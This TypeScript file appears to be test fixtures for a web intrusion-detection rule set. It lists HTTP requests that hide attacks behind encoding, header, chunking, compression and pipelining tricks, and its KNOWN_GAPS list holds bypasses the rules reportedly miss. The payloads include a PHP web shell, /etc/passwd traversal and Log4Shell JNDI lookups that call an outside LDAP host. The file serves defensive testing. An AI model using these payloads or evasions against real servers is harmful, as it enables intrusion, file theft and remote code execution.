/** Requests that say the same to some web server as the attack they hide. */
import { deflateSync, gzipSync } from 'node:zlib';
import { concat, latin1 } from '../helpers/wire.js';

export interface HttpEvasion {
  readonly name: string;
  readonly request: () => Uint8Array;
  /** Bytes per segment where it matters. */
  readonly step?: number;
}

const END = 'Host: a.example\r\nUser-Agent: x\r\n\r\n';
const ATTACK_BODY = 'a=1&b=<?php system($_GET[0]); ?>&c=3';

function text(name: string, request: string): HttpEvasion {
  return { name, request: () => latin1(request) };
}

function uri(name: string, target: string): HttpEvasion {
  return text(`URI: ${name}`, `GET ${target} HTTP/1.1\r\n${END}`);
}

function chunked(name: string, body: string, coding = 'chunked'): HttpEvasion {
  return text(`body: ${name}`, `POST /up HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: ${coding}\r\n\r\n${body}`);
}

function chunks(body: string, sizes: readonly number[], size: (n: number) => string = (n) => n.toString(16)): string {
  let at = 0;
  let out = '';
  for (let i = 0; at < body.length; i++) {
    const n = Math.min(body.length - at, sizes[i % sizes.length]!);
    out += `${size(n)}\r\n${body.slice(at, at + n)}\r\n`;
    at += n;
  }
  return `${out}0\r\n\r\n`;
}

function coded(name: string, coding: string, body: () => Uint8Array): HttpEvasion {
  return { name: `body: ${name}`, request: () => concat(latin1(`POST /up HTTP/1.1\r\nHost: a\r\nContent-Encoding: ${coding}\r\nContent-Length: ${body().length}\r\n\r\n`), body()) };
}

const plain = latin1(ATTACK_BODY);
const multipart = `--b\r\nContent-Disposition: form-data; name="f"; filename="x.php"\r\nContent-Type: text/plain\r\n\r\n${ATTACK_BODY}\r\n--b--\r\n`;

export const HTTP_EVASIONS: readonly HttpEvasion[] = [
  uri('as it is', '/etc/passwd'),
  uri('percent encoding', '/%65tc/%70asswd'),
  uri('every byte percent-encoded', '/%65%74%63%2f%70%61%73%73%77%64'),
  uri('mixed-case hex', '/etc%2Fpasswd%3f'),
  uri('./ segments', '/./etc/././passwd'),
  uri('../ segments', '/x/../etc/y/../passwd'),
  uri('encoded ../ segments', '/x/%2e%2e/etc/y/%2e%2e/passwd'),
  uri('doubled slashes', '//etc///passwd'),
  uri('UTF-8 in two bytes (overlong)', '/etc%c0%afpasswd'),
  uri('IIS %u encoding', '/etc%u002fpasswd'),
  uri('backslashes', '/etc\\passwd'),
  uri('absolute URI', 'http://a.example/etc/passwd'),
  uri('absolute URI with port', 'http://a.example:80/etc/passwd'),
  uri('in the query', '/show?file=../../../etc/passwd'),
  uri('in the query, encoded', '/show?file=..%2f..%2fetc%2fpasswd'),
  uri('null byte behind it', '/etc/passwd%00.png'),
  uri('raw high bytes around it', '/\xff\xfe/etc/passwd\x80'),
  uri('very long before it', `/${'a'.repeat(6000)}/../etc/passwd`),
  text('request line: LF only', 'GET /etc/passwd HTTP/1.1\nHost: a\n\n'),
  text('request line: leading empty lines', '\r\n\r\nGET /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n'),
  text('request line: several spaces', 'GET   /etc/passwd   HTTP/1.1\r\nHost: a\r\n\r\n'),
  text('request line: tabs', 'GET\t/etc/passwd\tHTTP/1.1\r\nHost: a\r\n\r\n'),
  text('request line: HTTP/0.9', 'GET /etc/passwd\r\n'),
  text('request line: HTTP/1.0', 'GET /etc/passwd HTTP/1.0\r\n\r\n'),
  text('request line: odd version', 'GET /etc/passwd HTTP/1.9\r\nHost: a\r\n\r\n'),
  text('request line: unknown method', 'FROB /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n'),
  text('request line: lower-case method', 'get /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n'),
  text('header: as it is', 'GET / HTTP/1.1\r\nHost: a\r\nX-Api: ${jndi:ldap://e/a}\r\n\r\n'),
  text('header: other case', 'GET / HTTP/1.1\r\nHost: a\r\nX-Api: ${JnDi:ldap://e/a}\r\n\r\n'),
  text('header: LF only', 'GET / HTTP/1.1\nHost: a\nX-Api: ${jndi:ldap://e/a}\n\n'),
  text('header: on a folded line', 'GET / HTTP/1.1\r\nHost: a\r\nX-Api: b\r\n ${jndi:ldap://e/a}\r\n\r\n'),
  text('header: without a colon', 'GET / HTTP/1.1\r\nHost: a\r\n${jndi:ldap://e/a}\r\n\r\n'),
  text('header: space before the colon', 'GET / HTTP/1.1\r\nHost: a\r\nX-Api : ${jndi:ldap://e/a}\r\n\r\n'),
  text('header: null bytes before it', 'GET / HTTP/1.1\r\nHost: a\r\nX-Api: \0\0${jndi:ldap://e/a}\r\n\r\n'),
  text('header: the 200th', `GET / HTTP/1.1\r\nHost: a\r\n${'X-Pad: y\r\n'.repeat(199)}X-Api: \${jndi:ldap://e/a}\r\n\r\n`),
  text('header: behind 8 KiB of others', `GET / HTTP/1.1\r\nHost: a\r\nX-Pad: ${'y'.repeat(8192)}\r\nX-Api: \${jndi:ldap://e/a}\r\n\r\n`),
  text('header: repeated name', 'GET / HTTP/1.1\r\nHost: a\r\nX-Api: b\r\nX-Api: ${jndi:ldap://e/a}\r\n\r\n'),
  text('body: Content-Length', `POST /up HTTP/1.1\r\nHost: a\r\nContent-Length: ${ATTACK_BODY.length}\r\n\r\n${ATTACK_BODY}`),
  chunked('chunked', chunks(ATTACK_BODY, [1000])),
  chunked('chunks of one byte', chunks(ATTACK_BODY, [1])),
  chunked('chunks with extensions', chunks(ATTACK_BODY, [3, 1, 2], (n) => `${n.toString(16)};a="b;c"`)),
  chunked('chunk sizes with leading zeros', chunks(ATTACK_BODY, [5], (n) => n.toString(16).padStart(8, '0'))),
  chunked('chunk sizes in upper case', chunks(ATTACK_BODY.padEnd(60, '.'), [0xb, 0xe], (n) => n.toString(16).toUpperCase())),
  chunked('chunked in other case', chunks(ATTACK_BODY, [4]), 'ChUnKeD'),
  chunked('chunked behind a space', chunks(ATTACK_BODY, [4]), '  chunked '),
  chunked('chunked with trailers', chunks(ATTACK_BODY, [7]).replace(/\r\n$/, 'X-T: y\r\n\r\n')),
  text('body: Transfer-Encoding wins over a short Content-Length', `POST /up HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n${chunks(ATTACK_BODY, [9])}`),
  text('body: Transfer-Encoding in front of Content-Length', `POST /up HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n${chunks(ATTACK_BODY, [9])}`),
  text('body: two Content-Lengths, the larger first', `POST /up HTTP/1.1\r\nHost: a\r\nContent-Length: ${ATTACK_BODY.length}\r\nContent-Length: 3\r\n\r\n${ATTACK_BODY}`),
  text('body: multipart form', `POST /up HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: ${multipart.length}\r\n\r\n${multipart}`),
  text('body: behind Expect: 100-continue', `POST /up HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: ${ATTACK_BODY.length}\r\n\r\n${ATTACK_BODY}`),
  text('body: of a GET', `GET /up HTTP/1.1\r\nHost: a\r\nContent-Length: ${ATTACK_BODY.length}\r\n\r\n${ATTACK_BODY}`),
  coded('gzip', 'gzip', () => gzipSync(plain)),
  coded('gzip in two members', 'gzip', () => concat(gzipSync(plain.subarray(0, 12)), gzipSync(plain.subarray(12)))),
  coded('gzip within gzip', 'gzip, gzip', () => gzipSync(gzipSync(plain))),
  coded('deflate (zlib)', 'deflate', () => deflateSync(plain)),
  coded('x-gzip', 'x-gzip', () => gzipSync(plain)),
  text('pipelined behind a harmless request', `GET /1 HTTP/1.1\r\nHost: a\r\n\r\nGET /etc/passwd HTTP/1.1\r\n${END}`),
  text('pipelined in front of a harmless request', `GET /etc/passwd HTTP/1.1\r\n${END}GET /1 HTTP/1.1\r\nHost: a\r\n\r\n`),
  text('pipelined behind a body', `POST /1 HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nabcdeGET /etc/passwd HTTP/1.1\r\n${END}`),
  text('first of 2000 pipelined requests', `GET /etc/passwd HTTP/1.1\r\n${END}${'GET / HTTP/1.1\r\n\r\n'.repeat(2000)}`),
  text('last of 2000 pipelined requests', `${'GET / HTTP/1.1\r\n\r\n'.repeat(2000)}GET /etc/passwd HTTP/1.1\r\n${END}`),
  { name: 'behind 1 MiB of others on one connection', request: () => concat(latin1(`POST /up HTTP/1.1\r\nHost: a\r\nContent-Length: ${1 << 20}\r\n\r\n${'x'.repeat(1 << 20)}`), latin1(`GET /etc/passwd HTTP/1.1\r\n${END}`)) },
];

/** What these rules do not see. Each is named in docs/evasion.md. */
export const KNOWN_GAPS: readonly HttpEvasion[] = [
  {
    name: 'body: two Content-Lengths, the smaller first (servers of today refuse it; http.duplicate_content_length_field_in_request tells)',
    request: () => latin1(`POST /up HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nContent-Length: ${ATTACK_BODY.length}\r\n\r\n${ATTACK_BODY}`),
    step: 17,
  },
  uri('double percent encoding', '/%2565tc/%2570asswd'),
  { name: 'body: behind 100 KiB of another (request-body-limit)', request: () => latin1(`POST /up HTTP/1.1\r\nHost: a\r\nContent-Length: ${110_000 + ATTACK_BODY.length}\r\n\r\n${'x'.repeat(110_000)}${ATTACK_BODY}`) },
  coded('three layers of gzip (decompress limit 2)', 'gzip, gzip, gzip', () => gzipSync(gzipSync(gzipSync(plain)))),
  coded('compressed without saying so', 'identity', () => gzipSync(plain)),
];
